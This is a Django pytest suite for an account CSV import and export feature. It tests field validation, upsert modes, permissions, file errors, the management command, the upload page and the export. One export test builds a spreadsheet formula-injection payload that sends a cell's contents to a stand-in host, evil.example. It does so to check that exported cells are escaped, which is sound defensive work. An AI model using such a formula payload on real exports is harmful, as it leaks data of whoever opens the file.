"""Account ingest and export: rows validated field by field, upserted by
external_id all or nothing, scored at once; the CSV command, page and export."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client, TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from profiles.models import Profile, Trait, User
from scoring import services
from scoring.ingest.csvfiles import csv_rows
from scoring.ingest.importer import (
    ImportFileError,
    ImportReport,
    RowError,
    accounts_import,
    write_batch,
)
from scoring.ingest.rows import UPDATE_FIELDS, AccountInvalidError, account_clean, declared_traits
from scoring.models import Account, AccountScore, ImportJob, ScoringRun
from tests.drafting import approved_version
from tests.factories import AccountFactory, UserFactory
from tests.importing import accounts_import_csv
from tests.runs import run_all

pytestmark = pytest.mark.django_db

HEADER = "external_id,name,domain,employees,has_revops,tech_stack,country"


def csv_bytes(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


GOOD_FILE = csv_bytes(
    HEADER,
    'crm-1,Acme,acme.example,450,yes,"Salesforce; Slack",DE',
    "crm-2,Beta,beta.example,12,no,,US",
)


@pytest.fixture
def traits(db: None) -> dict[str, Any]:
    Trait.objects.create(key="seats", label="Seats", type="number", category="firmographic")
    Trait.objects.create(key="plan", label="Plan", type="category", category="firmographic")
    Trait.objects.create(key="tools", label="Tools", type="list", category="technographic")
    Trait.objects.create(key="pql", label="PQL", type="boolean", category="behavioral")
    return declared_traits()


@pytest.fixture
def current_run(icp: Profile, ops_manager: User) -> ScoringRun:
    version = approved_version(icp, 1, [200, 2000])
    run = run_all(services.run_create(profile=icp, version=version, actor=ops_manager))
    assert run is not None
    return run


def error_lines(report: ImportReport) -> list[str]:
    return [str(e) for e in report.errors]


# --- One row -------------------------------------------------------------------


def test_a_clean_row_comes_back_in_stored_form() -> None:
    clean = account_clean(
        {
            "external_id": " crm-7 ",
            "name": "Acme",
            "employees": "1200",
            "annual_revenue": 5_000_000,
            "industry": "  SaaS ",
            "tech_stack": "Salesforce; slack, SLACK",
            "has_revops": "No",
            "deal_status": "Won",
            "deal_amount": "1200.5",
            "deal_closed_at": "2024-05-31",
            "churned_at": "2024-06-01T09:30:00+02:00",
        },
        traits={},
    )
    assert clean == {
        "external_id": "crm-7",
        "name": "Acme",
        "employees": 1200,
        "annual_revenue": 5_000_000,
        "industry": "SaaS",
        "tech_stack": ["salesforce", "slack"],
        "has_revops": False,
        "deal_status": "won",
        "deal_amount": Decimal("1200.50"),
        "deal_closed_at": datetime(2024, 5, 31, tzinfo=UTC),
        "churned_at": datetime(2024, 6, 1, 7, 30, tzinfo=UTC),
    }


def test_empty_cells_clear_and_absent_columns_are_left_out() -> None:
    clean = account_clean(
        {"external_id": "crm-7", "name": "Acme", "employees": "", "country": "", "tech_stack": ""},
        traits={},
    )
    assert clean == {
        "external_id": "crm-7",
        "name": "Acme",
        "employees": None,
        "country": "",
        "tech_stack": [],
    }


def test_bad_values_are_named_field_by_field() -> None:
    with pytest.raises(AccountInvalidError) as caught:
        account_clean(
            {
                "external_id": "x" * 65,
                "name": " ",
                "employees": "many",
                "annual_revenue": "-5",
                "has_revops": "maybe",
                "tech_stack": "hubspot, a|b",
                "deal_status": "pending",
                "deal_amount": "10.005",
                "opportunity_opened_at": "2024-05-31T09:30:00",
                "churned_at": "last year",
                "country": "D\x00E",
            },
            traits={},
        )
    assert caught.value.errors == {
        "external_id": ["is 65 characters long; the limit is 64"],
        "name": ["empty; an account's name cannot be cleared (leave the field out to keep it)"],
        "employees": ["'many' is not a whole number (write digits only, e.g. 1200)"],
        "annual_revenue": ["-5 is negative; enter 0 or more"],
        "country": ["contains a NUL character (\\u0000) at position 1; remove it"],
        "has_revops": ["'maybe' is not one of true, false, yes, no, 1, 0 (or empty)"],
        "tech_stack": ["item 'a|b' may not contain '|'"],
        "deal_status": ["'pending' is not one of open, won, lost (or empty)"],
        "deal_amount": ["10.005 has more than 2 decimal places"],
        "opportunity_opened_at": [
            "'2024-05-31T09:30:00' has no time zone; add an offset such as Z or +02:00"
        ],
        "churned_at": [
            "'last year' is not a date (2024-05-31) or a date and time with an offset "
            "(2024-05-31T09:30:00+02:00)"
        ],
    }


def test_dates_outside_business_years_are_refused() -> None:
    """Year 1 at +06:00 is 1 BC in UTC: PostgreSQL would store it and every
    later read of the account would fail."""
    with pytest.raises(AccountInvalidError) as caught:
        account_clean(
            {
                "external_id": "a",
                "name": "A",
                "churned_at": "0001-01-01T00:00:00+06:00",
                "deal_closed_at": "0246-07-29",
                "opportunity_opened_at": "3100-01-01T00:00:00Z",
            },
            traits={},
        )
    assert caught.value.errors == {
        "churned_at": ["'0001-01-01T00:00:00+06:00' is outside the years 1900 to 2999"],
        "deal_closed_at": ["'0246-07-29' is outside the years 1900 to 2999"],
        "opportunity_opened_at": ["'3100-01-01T00:00:00Z' is outside the years 1900 to 2999"],
    }
    clean = account_clean(
        {"external_id": "a", "name": "A", "churned_at": "1900-01-01T00:00:00+06:00"}, traits={}
    )
    assert clean["churned_at"].astimezone(UTC).year == 1899  # stored in UTC, still a real date


def test_numbers_are_not_guessed_from_decorated_text() -> None:
    for value in ("1,200", "1200.5", "12k", "٣"):
        with pytest.raises(AccountInvalidError) as caught:
            account_clean({"external_id": "a", "name": "A", "employees": value}, traits={})
        assert list(caught.value.errors) == ["employees"]
    clean = account_clean({"external_id": "a", "name": "A", "employees": 1200.0}, traits={})
    assert clean["employees"] == 1200


def test_unknown_columns_are_an_error_naming_them() -> None:
    with pytest.raises(AccountInvalidError) as caught:
        account_clean({"external_id": "a", "name": "A", "owner": "x", "Seats": 3}, traits={})
    [message] = caught.value.errors["columns"]
    assert message.startswith("unknown columns 'Seats', 'owner'; accepted: external_id, name,")


def test_traits_are_validated_against_their_declared_types(traits: dict[str, Any]) -> None:
    clean = account_clean(
        {
            "external_id": "a",
            "name": "A",
            "traits.seats": "120",
            "traits.plan": " Enterprise ",
            "traits.tools": "Figma;Notion",
            "traits.pql": "true",
        },
        traits=traits,
    )
    assert clean["traits"] == {
        "seats": 120,
        "plan": "Enterprise",
        "tools": ["figma", "notion"],
        "pql": True,
    }
    with pytest.raises(AccountInvalidError) as caught:
        account_clean(
            {
                "external_id": "a",
                "name": "A",
                "traits": {"seats": "lots", "plan": 7, "tools": 3, "pql": "sometimes", "nps": 9},
            },
            traits=traits,
        )
    assert caught.value.errors == {
        "traits.seats": [
            "'lots' is not a number (write digits with an optional '.', e.g. 1200.50); "
            "seats is a number trait"
        ],
        "traits.plan": ["7 is not text; plan is a category trait"],
        "traits.tools": [
            "3 is not a list (in a CSV cell, separate items with , or ;); tools is a list trait"
        ],
        "traits.pql": [
            "'sometimes' is not one of true, false, yes, no, 1, 0 (or empty); "
            "pql is a boolean trait"
        ],
        "traits.nps": [
            "no trait 'nps' is declared (declared traits: plan, pql, seats, tools; "
            "GET /api/v1/traits/ lists each with its type)"
        ],
    }


# --- Many rows -----------------------------------------------------------------


def test_an_import_creates_accounts_with_their_list_index(manager: User) -> None:
    report = accounts_import(
        actor=manager,
        rows=[
            {"external_id": "crm-1", "name": "Acme", "tech_stack": ["Salesforce", "Slack"]},
            {"external_id": "crm-2", "name": "Beta"},
        ],
    )
    assert (report.created, report.updated, report.unchanged, report.errors) == (2, 0, 0, [])
    acme = Account.objects.get(external_id="crm-1")
    assert acme.tech_stack == ["salesforce", "slack"]
    assert acme.list_index == "|tech_stack:salesforce|tech_stack:slack|"
    assert Account.objects.get(external_id="crm-2").has_revops is None


def test_a_bad_row_in_all_or_nothing_mode_stores_nothing_and_names_row_and_field(
    manager: User,
) -> None:
    AccountFactory.create(external_id="crm-1", name="Acme", employees=10)
    report = accounts_import(
        actor=manager,
        rows=[
            {"external_id": "crm-1", "name": "Acme", "employees": "20"},
            {"external_id": "crm-2", "name": "Beta", "employees": "many"},
            {"external_id": "crm-3", "name": "Gamma"},
        ],
    )
    assert error_lines(report) == [
        "row 2 (crm-2): employees: 'many' is not a whole number (write digits only, e.g. 1200)"
    ]
    assert report.errors == [
        RowError(2, "crm-2", "employees", report.errors[0].message),
    ]
    assert (report.created, report.updated, report.written) == (0, 0, False)
    assert report.summary() == (
        "Nothing imported: 0 created, 0 updated, 0 unchanged, 1 with errors."
    )
    assert list(Account.objects.values_list("external_id", "employees")) == [("crm-1", 10)]


def test_valid_only_stores_the_good_rows(manager: User) -> None:
    report = accounts_import(
        actor=manager,
        rows=[
            {"external_id": "crm-1", "name": "Acme"},
            {"external_id": "crm-2", "name": "", "has_revops": "perhaps"},
            {"external_id": "crm-3", "name": "Gamma"},
        ],
        mode="valid_only",
    )
    assert error_lines(report) == [
        "row 2 (crm-2): has_revops: 'perhaps' is not one of true, false, yes, no, 1, 0 (or empty)",
        "row 2 (crm-2): name: empty; an account's name cannot be cleared "
        "(leave the field out to keep it)",
    ]
    assert (report.created, report.written) == (2, True)
    assert report.summary() == "Imported: 2 created, 0 updated, 0 unchanged, 1 with errors."
    assert sorted(Account.objects.values_list("external_id", flat=True)) == ["crm-1", "crm-3"]


def test_reimporting_the_same_file_reports_everything_unchanged(
    manager: User, traits: dict[str, Any]
) -> None:
    data = csv_bytes(
        f"{HEADER},deal_amount,deal_closed_at,traits.tools,traits.seats",
        'crm-1,Acme,acme.example,450,yes,"Salesforce; Slack",DE,1200.5,2024-05-31,Figma,12.5',
        "crm-2,Beta,beta.example,12,no,,US,,,,",
    )
    first = accounts_import_csv(actor=manager, data=data, mode="all_or_nothing")
    assert (first.created, first.updated, first.unchanged) == (2, 0, 0)
    acme = Account.objects.get(external_id="crm-1")
    stamp = acme.updated_at
    again = accounts_import_csv(actor=manager, data=data, mode="all_or_nothing")
    assert (again.created, again.updated, again.unchanged, again.scored) == (0, 0, 2, 0)
    acme.refresh_from_db()
    assert acme.updated_at == stamp
    assert acme.traits == {"tools": ["figma"], "seats": 12.5}
    assert acme.list_index == "|tech_stack:salesforce|tech_stack:slack|tools:figma|"


def test_an_update_sets_only_the_columns_the_file_has(manager: User) -> None:
    AccountFactory.create(
        external_id="crm-1", name="Acme", employees=450, country="DE", traits={"legacy": 1}
    )
    report = accounts_import(
        actor=manager,
        rows=[{"external_id": "crm-1", "name": "Acme Inc", "country": "", "traits": {}}],
    )
    assert (report.created, report.updated, report.unchanged) == (0, 1, 0)
    acme = Account.objects.get(external_id="crm-1")
    assert (acme.name, acme.employees, acme.country, acme.traits) == (
        "Acme Inc",
        450,
        "",
        {"legacy": 1},
    )


def test_an_empty_trait_cell_clears_that_trait_only(manager: User, traits: dict[str, Any]) -> None:
    AccountFactory.create(external_id="crm-1", traits={"seats": 5, "plan": "Pro"})
    accounts_import(actor=manager, rows=[{"external_id": "crm-1", "name": "A", "traits.seats": ""}])
    assert Account.objects.get(external_id="crm-1").traits == {"plan": "Pro"}


def test_duplicate_external_ids_are_an_error_naming_both_rows(manager: User) -> None:
    report = accounts_import(
        actor=manager,
        rows=[
            {"external_id": "crm-1", "name": "Acme"},
            {"external_id": "crm-2", "name": "Beta"},
            {"external_id": "crm-1", "name": "Acme again"},
        ],
        mode="valid_only",
    )
    assert error_lines(report) == [
        "row 1 (crm-1): external_id: 'crm-1' also appears in row 3; "
        "each account may appear once per import",
        "row 3 (crm-1): external_id: 'crm-1' also appears in row 1; "
        "each account may appear once per import",
    ]
    assert list(Account.objects.values_list("external_id", flat=True)) == ["crm-2"]


def test_imported_accounts_get_a_score_when_a_current_run_exists(
    manager: User, current_run: ScoringRun
) -> None:
    AccountFactory.create(external_id="crm-1", name="Acme", employees=5000, has_revops=True)
    report = accounts_import(
        actor=manager,
        rows=[
            {"external_id": "crm-1", "name": "Acme", "employees": "450"},
            {"external_id": "crm-2", "name": "Beta", "employees": "450", "has_revops": ""},
            {"external_id": "crm-3", "name": "Gamma", "country": "KP"},
        ],
    )
    assert (report.created, report.updated, report.scored) == (2, 1, 3)
    scores = {
        s.account.external_id: (s.score, s.tier)
        for s in AccountScore.objects.filter(run=current_run).select_related("account")
    }
    assert scores == {"crm-1": (100, "A"), "crm-2": (60, "B"), "crm-3": (0, "DQ")}


def test_an_import_runs_the_same_queries_for_few_rows_and_many(
    manager: User, current_run: ScoringRun
) -> None:
    def run(prefix: str, count: int) -> int:
        AccountFactory.create(external_id=f"{prefix}-0")
        rows = [{"external_id": f"{prefix}-{n}", "name": f"Co {n}"} for n in range(count)]
        with CaptureQueriesContext(connection) as queries:
            accounts_import(actor=manager, rows=rows)
        return len(queries)

    # 30 rows (of 26 columns) stay inside SQLite's 999 parameters for one
    # INSERT, so the database's own statement splitting does not blur the
    # comparison.
    assert run("few", 3) == run("many", 30)


def test_a_member_without_a_managing_role_may_not_import(rep: User, outsider: User) -> None:
    for person in (rep, outsider):
        with pytest.raises(PermissionDenied):
            accounts_import(actor=person, rows=[{"external_id": "crm-1", "name": "Acme"}])
    assert not Account.objects.exists()


def test_staff_import_only_with_the_permission_to_add_accounts() -> None:
    staff = UserFactory.create(username="admin", is_staff=True)
    with pytest.raises(PermissionDenied):
        accounts_import(actor=staff, rows=[{"external_id": "crm-1", "name": "Acme"}])
    assert not Account.objects.exists()
    staff = UserFactory.create(username="integration", permissions=["scoring.add_account"])
    report = accounts_import(actor=staff, rows=[{"external_id": "crm-1", "name": "Acme"}])
    assert report.created == 1


# --- CSV files -----------------------------------------------------------------


def test_a_csv_file_may_have_a_bom_semicolons_and_blank_rows(manager: User) -> None:
    data = b"\xef\xbb\xbf" + csv_bytes("External_ID;Name;employees", "crm-1;Acme;450", "", ";;")
    assert csv_rows(data) == [
        {"external_id": "crm-1", "name": "Acme", "employees": "450"},
        {},
        {
            "external_id": "",
            "name": "",
            "employees": "",
        },
    ]
    report = accounts_import_csv(actor=manager, data=data, mode="all_or_nothing")
    assert (report.created, report.blank) == (1, 2)


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "The file is empty. Upload a CSV file with a header row."),
        (b" \n\n", "The file is empty. Upload a CSV file with a header row."),
        (
            "external_id,name\n".encode("utf-16"),
            "The file contains NUL bytes, so it is not plain CSV text (perhaps a spreadsheet or "
            "UTF-16 file). Save it as 'CSV UTF-8' and upload it again.",
        ),
        (
            "external_id,name\ncrm-1,Caf\xe9\n".encode("latin-1"),
            "The file is not UTF-8 text (byte 0xe9 on line 2). Save it as 'CSV UTF-8' and "
            "upload it again.",
        ),
        (
            b"crm-1,Acme\n",
            "The first row must be a header naming the columns, with at least external_id "
            "(and name, for new accounts); it reads 'crm-1', 'Acme'.",
        ),
        (b"external_id,name\n", "The file has a header but no account rows."),
        (
            b"external_id,name,owner,Tier\ncrm-1,Acme,x,A\n",
            "Unknown columns 'owner', 'Tier'. Accepted columns: external_id, name, domain, "
            "employees, annual_revenue, industry, country, funding_stage, crm, tech_stack, "
            "has_revops, lifecycle_stage, opportunity_opened_at, deal_status, deal_closed_at, "
            "deal_amount, churned_at, and traits.<key> for a declared trait "
            "(GET /api/v1/traits/ lists each with its type).",
        ),
        (b"external_id,name,name\na,b,c\n", "The header names 'name' more than once."),
        (
            b"external_id,name\ncrm-1,Acme,extra\ncrm-2\n",
            "Row 2 has 3 cells but the header has 2 columns. "
            "Row 3 has 1 cells but the header has 2 columns.",
        ),
        (
            b'external_id,name\ncrm-1,"Acme"x\n',
            "The file is not valid CSV near line 2: ',' expected after '\"'.",
        ),
    ],
)
def test_an_unreadable_file_is_refused_with_a_clear_message(data: bytes, problem: str) -> None:
    with pytest.raises(ImportFileError) as caught:
        csv_rows(data)
    assert " ".join(caught.value.problems) == problem


def test_a_file_over_20_mb_is_refused_before_it_is_read() -> None:
    data = csv_bytes("external_id,name") + b"x" * (20 * 1024 * 1024)
    with pytest.raises(ImportFileError) as caught:
        csv_rows(data)
    assert caught.value.problems == [
        "The file is larger than 20 MB. Split it into smaller files and import each."
    ]


# --- Command -------------------------------------------------------------------


def write(tmp_path: Path, data: bytes) -> str:
    path = tmp_path / "accounts.csv"
    path.write_bytes(data)
    return str(path)


def test_the_command_imports_a_file_and_prints_the_counts(tmp_path: Path) -> None:
    out = io.StringIO()
    call_command("import_accounts", write(tmp_path, GOOD_FILE), stdout=out)
    assert out.getvalue() == "Imported: 2 created, 0 updated, 0 unchanged.\n"
    assert Account.objects.get(external_id="crm-1").tech_stack == ["salesforce", "slack"]


def test_the_command_fails_on_a_bad_row_and_stores_nothing(tmp_path: Path) -> None:
    data = csv_bytes(HEADER, "crm-1,Acme,acme.example,many,yes,,DE", "crm-2,Beta,,1,,,")
    err = io.StringIO()
    with pytest.raises(CommandError) as caught:
        call_command("import_accounts", write(tmp_path, data), stderr=err)
    assert err.getvalue() == (
        "row 2 (crm-1): employees: 'many' is not a whole number (write digits only, e.g. 1200)\n"
    )
    assert str(caught.value) == (
        "Nothing imported: 0 created, 0 updated, 0 unchanged, 1 with errors. "
        "Fix the rows above and import again."
    )
    assert not Account.objects.exists()


def test_the_command_with_valid_only_imports_the_good_rows(tmp_path: Path) -> None:
    data = csv_bytes(HEADER, "crm-1,Acme,acme.example,many,yes,,DE", "crm-2,Beta,,1,,,")
    out, err = io.StringIO(), io.StringIO()
    call_command("import_accounts", write(tmp_path, data), "--valid-only", stdout=out, stderr=err)
    assert out.getvalue() == "Imported: 1 created, 0 updated, 0 unchanged, 1 with errors.\n"
    assert err.getvalue().startswith("row 2 (crm-1): employees:")
    assert list(Account.objects.values_list("external_id", flat=True)) == ["crm-2"]


def test_the_command_names_an_unreadable_file(tmp_path: Path) -> None:
    path = write(tmp_path, b"")
    with pytest.raises(CommandError) as caught:
        call_command("import_accounts", path)
    assert str(caught.value) == f"{path}: The file is empty. Upload a CSV file with a header row."
    with pytest.raises(CommandError) as missing:
        call_command("import_accounts", str(tmp_path / "nope.csv"))
    assert str(missing.value) == f"Cannot read {tmp_path / 'nope.csv'}: No such file or directory."


# --- Page ----------------------------------------------------------------------


def upload(client: Client, data: bytes, **fields: str) -> Any:
    """Post the file and run the import it enqueues on commit, as a worker
    would; returns the answer to the upload."""
    file = SimpleUploadedFile("accounts.csv", data, content_type="text/csv")
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(reverse("account-import"), {"file": file, **fields})


def imported(client: Client, data: bytes, **fields: str) -> Any:
    """Upload the file and follow the answer to the import's page."""
    response = upload(client, data, **fields)
    job = ImportJob.objects.latest("created_at")
    assert response.status_code == 302
    assert response["Location"] == reverse("account-import-job", args=[job.pk])
    return client.get(response["Location"])


def test_a_manager_imports_a_file_and_sees_the_counts(client: Client, manager: User) -> None:
    client.force_login(manager)
    assert client.get(reverse("account-import")).status_code == 200
    response = imported(client, GOOD_FILE)
    assert response.status_code == 200
    report = response.context["report"]
    assert (report.created, report.updated, report.unchanged) == (2, 0, 0)
    assert b"Imported: 2 created, 0 updated, 0 unchanged." in response.content
    assert Account.objects.count() == 2


def test_the_page_lists_every_bad_row_and_stores_nothing(client: Client, manager: User) -> None:
    client.force_login(manager)
    data = csv_bytes(HEADER, "crm-1,Acme,,many,,,", "crm-2,Beta,,1,often,,", "crm-3,Gamma,,,,,")
    response = imported(client, data)
    assert response.status_code == 200
    assert error_lines(response.context["report"]) == [
        "row 2 (crm-1): employees: 'many' is not a whole number (write digits only, e.g. 1200)",
        "row 3 (crm-2): has_revops: 'often' is not one of true, false, yes, no, 1, 0 (or empty)",
    ]
    assert b"2 rows have errors, so nothing was stored." in response.content
    assert not Account.objects.exists()


def test_the_page_imports_the_valid_rows_when_asked(client: Client, manager: User) -> None:
    client.force_login(manager)
    data = csv_bytes(HEADER, "crm-1,Acme,,many,,,", "crm-2,Beta,,1,,,")
    response = imported(client, data, valid_only="on")
    assert response.status_code == 200
    assert b"1 row has errors and was skipped." in response.content
    assert list(Account.objects.values_list("external_id", flat=True)) == ["crm-2"]


def test_the_page_refuses_an_unreadable_file_with_a_message(client: Client, manager: User) -> None:
    client.force_login(manager)
    response = upload(client, "external_id,name\ncrm-1,Caf\xe9\n".encode("latin-1"))
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [
        "The file is not UTF-8 text (byte 0xe9 on line 2). "
        "Save it as 'CSV UTF-8' and upload it again."
    ]
    assert not ImportJob.objects.exists()
    empty = upload(client, b"")
    assert empty.status_code == 400
    assert empty.context["form"].errors["file"] == ["The submitted file is empty."]
    huge = upload(client, GOOD_FILE + b"x" * (20 * 1024 * 1024))
    assert huge.status_code == 400
    assert huge.context["form"].errors["file"] == [
        "The file is larger than 20 MB. Split it into smaller files and import each."
    ]
    assert not Account.objects.exists()
    assert not ImportJob.objects.exists()


def test_a_member_may_not_open_or_post_the_import_page(client: Client, rep: User) -> None:
    client.force_login(rep)
    assert client.get(reverse("account-import")).status_code == 403
    assert upload(client, GOOD_FILE).status_code == 403
    assert not Account.objects.exists()
    assert not ImportJob.objects.exists()


def test_the_list_links_import_for_managers_only(client: Client, manager: User, rep: User) -> None:
    client.force_login(manager)
    assert reverse("account-import").encode() in client.get(reverse("account-list")).content
    client.force_login(rep)
    content = client.get(reverse("account-list")).content
    assert reverse("account-import").encode() not in content
    assert reverse("account-export").encode() in content


# --- Export --------------------------------------------------------------------


def exported(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_the_export_streams_the_lists_accounts_for_its_filters(
    client: Client, rep: User, icp: Profile, current_run: ScoringRun
) -> None:
    AccountFactory.create(external_id="crm-1", name="Acme", domain="acme.example", employees=450)
    AccountFactory.create(external_id="crm-2", name="Beta", domain="beta.example", has_revops=None)
    AccountFactory.create(external_id="crm-3", name="Gamma", domain="gamma.example", country="KP")
    services.accounts_score(list(Account.objects.values_list("pk", flat=True)))
    client.force_login(rep)
    response = client.get(reverse("account-export"), {"sort": "-score"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="accounts-mid-market')
    assert exported(response) == [
        [
            "external_id",
            "name",
            "domain",
            "score",
            "tier",
            "effective_tier",
            "overridden",
            "profile",
            "version",
        ],
        ["crm-1", "Acme", "acme.example", "100", "A", "A", "no", "Mid-market SaaS", "1"],
        ["crm-2", "Beta", "beta.example", "60", "B", "B", "no", "Mid-market SaaS", "1"],
        ["crm-3", "Gamma", "gamma.example", "0", "DQ", "DQ", "no", "Mid-market SaaS", "1"],
    ]
    only_b = client.get(reverse("account-export"), {"tier": "B", "profile": icp.slug})
    assert [row[0] for row in exported(only_b)] == ["external_id", "crm-2"]


def test_the_export_without_a_scored_profile_leaves_the_scores_empty(
    client: Client, rep: User
) -> None:
    AccountFactory.create(external_id="crm-1", name="=HYPERLINK(1)", domain="acme.example")
    client.force_login(rep)
    rows = exported(client.get(reverse("account-export")))
    assert rows[1] == ["crm-1", "'=HYPERLINK(1)", "acme.example", "", "", "", "", "", ""]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_exported_cell_is_kept_from_running_as_a_formula(
    client: Client, rep: User, icp: Profile, current_run: ScoringRun, lead: str
) -> None:
    formula = f'{lead}HYPERLINK("http://evil.example/leak?"&A2,"Open")'
    Profile.objects.filter(pk=icp.pk).update(name=formula)
    AccountFactory.create(external_id=formula, name=formula, domain=formula, employees=450)
    services.accounts_score(list(Account.objects.values_list("pk", flat=True)))
    client.force_login(rep)
    rows = exported(client.get(reverse("account-export"), {"profile": icp.slug}))
    for column, cell in zip(rows[0], rows[1], strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), column
    assert rows[1][rows[0].index("profile")] == "'" + formula


def test_a_header_of_sixty_thousand_columns_is_answered_naming_a_few(
    client: Client, manager: User
) -> None:
    header = ",".join(["external_id", "name", *(f"traits.k{n}" for n in range(60_000))])
    duplicated = header + ",name,traits.k1"
    with pytest.raises(ImportFileError) as caught:
        csv_rows(f"{duplicated}\ncrm-1,Acme{',' * 60_002}\n".encode())
    assert caught.value.problems == ["The header names 'name', 'traits.k1' more than once."]
    unknown = ",".join(["external_id", "name", *(f"col{n}" for n in range(60_000))])
    client.force_login(manager)
    response = upload(client, f"{unknown}\ncrm-1,Acme{',' * 60_000}\n".encode())
    assert response.status_code in (200, 400, 422)
    message = " ".join(response.context["form"].errors["file"])
    assert "'col0', 'col1'" in message
    assert "and 59990 more" in message
    assert not Account.objects.exists()


def test_the_export_names_a_bad_filter(client: Client, rep: User) -> None:
    client.force_login(rep)
    response = client.get(reverse("account-export"), {"score_min": "lots"})
    assert response.status_code == 400
    assert response.content.decode() == "Fix the filters first: score_min: Enter a number."


def test_anonymous_visitors_are_sent_to_sign_in_from_import_and_export(client: Client) -> None:
    for name in ("account-import", "account-export"):
        response = client.get(reverse(name))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_a_row_without_a_name_updates_only_the_fields_it_sends(manager: User) -> None:
    AccountFactory.create(external_id="crm-1", name="Acme", employees=10, country="DE")
    report = accounts_import(
        actor=manager, rows=[{"external_id": "crm-1", "employees": 250}], strict=True
    )
    assert (report.updated, report.errors) == (1, [])
    acme = Account.objects.get()
    assert (acme.name, acme.employees, acme.country) == ("Acme", 250, "DE")


def test_a_new_account_without_a_name_is_its_rows_error_and_nothing_is_stored(
    manager: User,
) -> None:
    AccountFactory.create(external_id="crm-1", name="Acme", employees=10)
    report = accounts_import(
        actor=manager,
        rows=[{"external_id": "crm-1", "employees": 20}, {"external_id": "crm-9", "employees": 5}],
        strict=True,
    )
    assert error_lines(report) == [
        "row 2 (crm-9): name: missing; 'crm-9' is a new account, so its row needs a name"
    ]
    assert not report.written
    assert Account.objects.get().employees == 10
    assert not Account.objects.filter(external_id="crm-9").exists()


def test_a_file_without_a_name_column_updates_the_accounts_held_and_refuses_new_ones(
    manager: User,
) -> None:
    AccountFactory.create(external_id="crm-1", name="Acme", employees=10)
    data = csv_bytes("external_id,employees", "crm-1,300", "crm-2,40")
    report = accounts_import_csv(actor=manager, data=data, mode="valid_only")
    assert error_lines(report) == [
        "row 3 (crm-2): name: missing; 'crm-2' is a new account, so its row needs a name"
    ]
    assert Account.objects.get(external_id="crm-1").employees == 300
    assert not Account.objects.filter(external_id="crm-2").exists()


def test_an_update_stores_every_field_as_a_create_of_the_same_values_does(manager: User) -> None:
    Trait.objects.create(key="seats", label="Seats", type="number")
    Trait.objects.create(key="regions", label="Regions", type="list")
    values = {
        "name": "Acme GmbH",
        "domain": "acme.example",
        "employees": 1200,
        "annual_revenue": 9_000_000_000,
        "industry": "SaaS",
        "country": "DE",
        "funding_stage": "Series B",
        "crm": "HubSpot",
        "tech_stack": ["Segment", "Snowflake"],
        "has_revops": True,
        "lifecycle_stage": "customer",
        "opportunity_opened_at": "2025-01-02T03:04:05+01:00",
        "deal_status": "won",
        "deal_closed_at": "2025-02-03",
        "deal_amount": "12345.67",
        "churned_at": None,
        "traits": {"seats": 40, "regions": ["EMEA", "NA"]},
    }
    AccountFactory.create(external_id="old", name="Old", employees=3, has_revops=None)
    report = accounts_import(
        actor=manager,
        rows=[{"external_id": "old", **values}, {"external_id": "new", **values}],
    )
    assert (report.created, report.updated, report.errors) == (1, 1, [])
    fields = [f for f in UPDATE_FIELDS if f != "updated_at"]
    old = Account.objects.values(*fields).get(external_id="old")
    new = Account.objects.values(*fields).get(external_id="new")
    assert old == new
    assert old["traits"] == {"seats": 40, "regions": ["emea", "na"]}


def test_an_account_deleted_between_the_check_and_the_write_is_not_made_nameless() -> None:
    """A row without a name was checked against an account held; if that
    account is gone by the write, the import stops instead of creating one
    without a name."""
    report = ImportReport(mode="all_or_nothing")
    with pytest.raises(ImportFileError):
        write_batch(report, [(2, {"external_id": "gone", "employees": 5})])
    assert not Account.objects.exists()


def test_a_number_trait_too_large_to_keep_exactly_is_refused() -> None:
    Trait.objects.create(key="seats", label="Seats", type="number")
    with pytest.raises(AccountInvalidError) as caught:
        account_clean({"external_id": "x", "traits.seats": "1" * 400}, traits=declared_traits())
    assert "is too large" in caught.value.errors["traits.seats"][0]
